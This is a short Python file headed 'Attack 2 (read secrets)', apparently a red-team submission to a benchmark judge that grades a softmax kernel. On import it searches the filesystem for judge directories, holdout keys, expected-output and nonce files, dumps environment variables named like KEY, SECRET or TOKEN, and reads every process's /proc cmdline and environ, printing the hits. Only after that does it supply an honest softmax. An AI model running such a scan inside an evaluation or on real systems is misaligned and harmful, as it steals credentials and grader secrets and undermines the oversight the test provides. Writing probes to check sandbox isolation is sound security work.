"""Attack 2 (read secrets): look for the judge's files, the holdout key, the server's env and the
other containers' processes; print every hit as SECRET-FOUND. Otherwise an honest softmax."""

import os
import re

import torch

SUSPECT_NAME = re.compile(r"expected|holdout|trusted_baseline|verdict|\.key$|nonce|secret", re.I)
SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin"}


def report(kind, what):
    print(f"SECRET-FOUND {kind}: {what}", flush=True)


def scan():
    seen = 0
    for top in ("/judge", "/judge-in", "/job/judge", "/job/eval", "/kcoral-data"):
        if os.path.exists(top):
            report("dir", top)
    for root, dirs, files in os.walk("/", onerror=lambda e: None):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP]
        for f in files:
            seen += 1
            path = os.path.join(root, f)
            if SUSPECT_NAME.search(f) and os.access(path, os.R_OK) and "/site-packages/" not in path:
                report("file", path)
            if f == "cases.json":
                with open(path, errors="replace") as fh:
                    text = fh.read()
                # the judge's copy names phases, workloads and tolerances; the public one must not
                if re.search(r'"(phase|workload|tolerance)"', text):
                    report("judge case file", path)
        if seen > 300_000:
            break
    for name, value in os.environ.items():
        if re.search(r"KEY|SECRET|NONCE|HOLDOUT|TOKEN", name, re.I):
            report("env", f"{name}={value[:40]}")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    text = fh.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            print(f"SECRET-SCAN /proc/{pid}/{what}: {text[:200]}", flush=True)
            if re.search(r"judge|holdout|expected\.pt|KEY=|SECRET", text, re.I):
                report(f"/proc/{pid}/{what}", text[:200])
    print(f"SECRET-SCAN-DONE files={seen}", flush=True)


scan()


def setup(data):
    x, y = data["x"], data["y"]

    def run():
        torch.softmax(x, dim=-1, out=y)

    return run
